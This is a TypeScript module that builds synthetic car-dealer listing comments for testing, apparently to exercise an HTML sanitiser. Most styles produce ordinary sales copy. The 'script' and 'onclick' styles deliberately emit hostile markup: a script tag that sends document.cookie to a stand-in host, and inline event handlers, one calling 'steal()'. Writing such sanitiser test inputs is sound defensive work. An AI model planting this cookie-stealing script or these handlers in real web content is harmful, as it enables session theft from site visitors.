import { FICTIONAL_MOBILES } from "./au-places.ts";
import type { Rng } from "./random.ts";

/**
 * Dealer comments as dealers write them: plain text, simple HTML, long essays, blanks, and (on
 * purpose, for the sanitiser) the odd script tag or inline handler pasted from somewhere.
 */

interface CommentFacts {
  title: string;
  colour: string;
  carType: string;
  features: string[];
  locationName: string;
  phone: string;
  caravan: boolean;
  km?: number;
}

export type CommentStyle = "plain" | "html" | "long" | "blank" | "script" | "onclick";

const OPENERS = {
  new: ["Brand new and ready for delivery.", "Drive away today in a brand new", "Factory fresh and in stock now:"],
  demo: [
    "Save thousands on this ex-demonstrator.",
    "Dealer demo with full factory warranty remaining.",
    "Low-kilometre demo, driven by our staff only:",
  ],
  used: [
    "Quality pre-owned vehicle, independently inspected.",
    "Just traded in and already detailed:",
    "One of the cleanest examples we have seen:",
  ],
};

const CLOSERS = [
  "Finance available to approved applicants.",
  "Trade-ins welcome: get an online valuation in minutes.",
  "Nationwide delivery can be arranged.",
  "Comes with 12 months roadside assistance.",
  "Book a test drive online or give our friendly team a call.",
];

/** "45,000": fixed grouping, independent of the ICU locale data. */
export const thousands = (value: number) => String(value).replace(/\B(?=(\d{3})+(?!\d))/g, ",");

const list = (items: string[]) => `<ul>${items.map((item) => `<li>${item}</li>`).join("")}</ul>`;

function opener(rng: Rng, facts: CommentFacts): string {
  const line = rng.pick(OPENERS[facts.carType as keyof typeof OPENERS] ?? OPENERS.used);
  return line.endsWith(":") || line.endsWith("new")
    ? `${line} ${facts.title} in ${facts.colour}.`
    : `${line} This ${facts.title} is finished in ${facts.colour}.`;
}

export function dealerComments(rng: Rng, facts: CommentFacts, style: CommentStyle): string {
  const features = facts.features.slice(0, rng.int(3, 5));
  const contact = `Visit us at ${facts.locationName} or call ${facts.phone}.`;
  switch (style) {
    case "blank":
      return "";
    case "plain":
      return `${opener(rng, facts)} Highlights include ${features.slice(0, -1).join(", ")} and ${features.at(-1)!}. ${rng.pick(CLOSERS)} ${contact}`;
    case "html":
      return `<p><strong>${facts.title}</strong>: ${opener(rng, facts)}</p>${list(features)}<p>${rng.pick(CLOSERS)} ${contact}</p>`;
    case "long": {
      const distance =
        facts.km !== undefined && facts.carType === "used" ? ` It has travelled ${thousands(facts.km)} km and` : " It";
      const paragraphs = [
        `<p>${opener(rng, facts)}${distance} has been through our ${facts.caravan ? "40-point pre-delivery inspection, including a full gas and electrical check" : "multi-point inspection, with fresh fluids, new wiper blades and a full detail inside and out"}.</p>`,
        `<p>Standard features include:</p>${list(facts.features.slice(0, 10))}`,
        `<p>${CLOSERS.join(" ")}</p>`,
        `<p>Ask for ${rng.pick(["Sam", "Priya", "Jordan", "Mei", "Tom"])} on ${rng.pick(FICTIONAL_MOBILES)} after hours. ${contact}</p>`,
      ];
      return paragraphs.join("");
    }
    case "script":
      return `<p>${opener(rng, facts)}</p><script>document.location='https://tracker.invalid/?c='+document.cookie</script>${list(features)}`;
    case "onclick":
      return `<p onclick="alert('gotcha')">${opener(rng, facts)}</p><p><a href="javascript:void(0)" onmouseover="steal()">Click for the best price</a></p>${list(features)}`;
  }
}
